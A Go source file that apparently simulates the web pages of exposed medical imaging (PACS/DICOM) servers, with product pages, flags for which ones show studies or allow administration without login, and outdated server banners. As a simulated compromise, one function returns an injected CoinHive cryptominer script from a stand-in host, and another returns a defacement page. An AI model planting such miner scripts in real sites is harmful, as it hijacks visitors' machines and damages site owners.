package fleet

import "fmt"

// page is whose web pages a service shows. The pages are our own: they have the
// titles, headers and paths by which the products are known, and little else.
type page string

const (
	noPage         page = ""
	pageOrthanc    page = "orthanc"       // Orthanc Explorer, open
	pageOrthancAsk page = "orthanc-login" // Orthanc behind its password
	pageOHIF       page = "ohif"
	pageOviyam     page = "oviyam"
	pageDcm4chee   page = "dcm4chee"
	pageDcm4cheArc page = "dcm4chee-arc"
	pageConquest   page = "conquest"
	pageMedDream   page = "meddream"
	pageMedAsk     page = "meddream-login"
	pageWeasis     page = "weasis"
	pageClear      page = "clearcanvas"
	pageOsiriX     page = "osirix"
	pagePlain      page = "plain" // a page that tells nothing of images
)

// viewer says whether the page shows images or studies to anyone.
func (p page) viewer() bool {
	switch p {
	case pageOrthanc, pageOHIF, pageOviyam, pageConquest, pageMedDream, pageWeasis:
		return true
	}
	return false
}

// admin says whether the page lets anyone administer the archive.
func (p page) admin() bool { return p == pageOrthanc || p == pageConquest }

const password = `<form method="post"><input name="user"><input type="password" name="pass"><button>Log in</button></form>`

// pages are those of a service by path; every is what all other paths show.
func (w *webService) pages() (pages map[string]webPage, every *webPage) {
	ok := func(title, body string) webPage { return webPage{status: 200, title: title, body: body} }
	to := func(path string) webPage { return webPage{status: 302, title: "Moved", location: path} }
	switch w.page {
	case pageOrthanc:
		return map[string]webPage{
			"/":                  {status: 301, title: "Moved", location: "app/explorer.html"},
			"/app/explorer.html": ok("Orthanc Explorer", "<h1>Patients Studies Series</h1>"),
			"/system": {status: 200, kind: "application/json", body: fmt.Sprintf(
				`{"ApiVersion":1,"DatabaseVersion":6,"DicomAet":"ORTHANC","DicomPort":4242,"HttpPort":%d,"Name":"ORTHANC","PluginsEnabled":true,"Version":%q}`,
				w.port, w.software.version)},
		}, nil
	case pageOrthancAsk:
		return nil, &webPage{status: 401, title: "401 Unauthorized", body: "<h1>Unauthorized</h1>", realm: "Orthanc Secure Area"}
	case pageOHIF: // an application of one page, which every path shows
		p := ok("OHIF Viewer", `<meta name="description" content="Open Health Imaging Foundation DICOM Viewer"><div id="root"></div>`)
		return map[string]webPage{"/": p}, &p
	case pageOviyam:
		return map[string]webPage{"/": ok("Welcome to JBoss", "<h1>JBoss Online Resources</h1>"),
			"/oviyam2/": ok("Oviyam", `<div id="patient-search">Oviyam - Search patients</div>`)}, nil
	case pageDcm4chee:
		return map[string]webPage{"/": ok("Welcome to JBoss", "<h1>JBoss Online Resources</h1>"),
			"/dcm4chee-web3/": ok("dcm4chee-web3", "dcm4chee"+password)}, nil
	case pageDcm4cheArc:
		return map[string]webPage{"/": to("/dcm4chee-arc/ui2/"), "/dcm4chee-arc/ui2/": ok("dcm4chee-arc", "<app-root>dcm4chee-arc</app-root>")}, nil
	}
	return w.morePages(ok, to), nil
}

func (w *webService) morePages(ok func(title, body string) webPage, to func(string) webPage) map[string]webPage {
	switch w.page {
	case pageConquest:
		const top = "/cgi-bin/dgate.exe?mode=top"
		return map[string]webPage{"/": to(top), top: ok("CONQUEST DICOM server", "<h1>Welcome to the Conquest DICOM server</h1> version: "+w.software.version+" <a>Find studies</a>")}
	case pageMedDream:
		return map[string]webPage{"/": to("/meddream/"), "/meddream/": ok("MedDream", "<h1>Search studies</h1>")}
	case pageMedAsk:
		return map[string]webPage{"/": to("/meddream/"), "/meddream/": ok("MedDream", password)}
	case pageWeasis:
		return map[string]webPage{"/": ok("PACS", "<h1>It works</h1>"), "/weasis-pacs-connector/viewer": ok("Weasis", "weasis-pacs-connector: choose a study")}
	case pageClear:
		const login = "/ImageServer/Pages/Login/Default.aspx"
		return map[string]webPage{"/": to(login), login: ok("ClearCanvas ImageServer", password)}
	case pageOsiriX:
		return map[string]webPage{"/": ok("OsiriX Web Portal", password)}
	}
	return map[string]webPage{"/": ok("Radiology", w.mark.text())}
}

// text is the page of a host that tells nothing, and what an intruder made of it.
func (m mark) text() string {
	switch m {
	case minerMark:
		return `<h1>Radiology</h1><script src="https://coinhive.invalid/lib/coinhive.min.js"></script><script>new CoinHive.Anonymous("site-key").start()</script>`
	case defaceMark:
		return `<h1>Hacked by Synthetic Cr3w</h1><p>your security is low</p>`
	}
	return `<h1>Radiology</h1><p>Intranet</p>`
}

// status is that of the first page.
func (w *webService) status() int {
	pages, every := w.pages()
	if p, ok := pages["/"]; ok {
		return p.status
	}
	return every.status
}

// stack is the web server and language around a page, as their headers tell.
type stack struct {
	server, powered string
	products        []release // what an expert reads in them
}

// release is a product and its version.
type release struct{ product, version string }

func (s *stack) headers() map[string]string {
	h := map[string]string{}
	if s != nil && s.server != "" {
		h["Server"] = s.server
	}
	if s != nil && s.powered != "" {
		h["X-Powered-By"] = s.powered
	}
	return h
}

// stackOf is what usually is around a product's pages; variant tells apart those
// of hosts whose pages tell nothing.
func stackOf(p page, variant uint64) *stack {
	jboss := &stack{"Apache-Coyote/1.1", "Servlet 2.4; JBoss-4.2.3.GA (build: SVNTag=JBoss_4_2_3_GA date=200807181439)/JBossWeb-2.0",
		[]release{{"JBoss", "4.2.3.GA"}}}
	xampp := &stack{"Apache/2.2.14 (Win32) PHP/5.3.1", "PHP/5.3.1", []release{{"Apache HTTP Server", "2.2.14"}, {"PHP", "5.3.1"}}}
	iis := &stack{"Microsoft-IIS/6.0", "ASP.NET", []release{{"IIS", "6.0"}}}
	switch p {
	case pageOviyam, pageDcm4chee:
		return jboss
	case pageDcm4cheArc:
		return &stack{server: "WildFly/14"}
	case pageMedDream, pageMedAsk:
		return xampp
	case pageClear, pageConquest:
		return iis
	case pageOHIF:
		return &stack{server: "nginx/1.14.0"}
	case pageWeasis:
		return &stack{server: "Apache-Coyote/1.1"}
	case pagePlain:
		return []*stack{xampp, iis, {server: "nginx/1.14.0"}, nil}[variant%4]
	}
	return nil
}
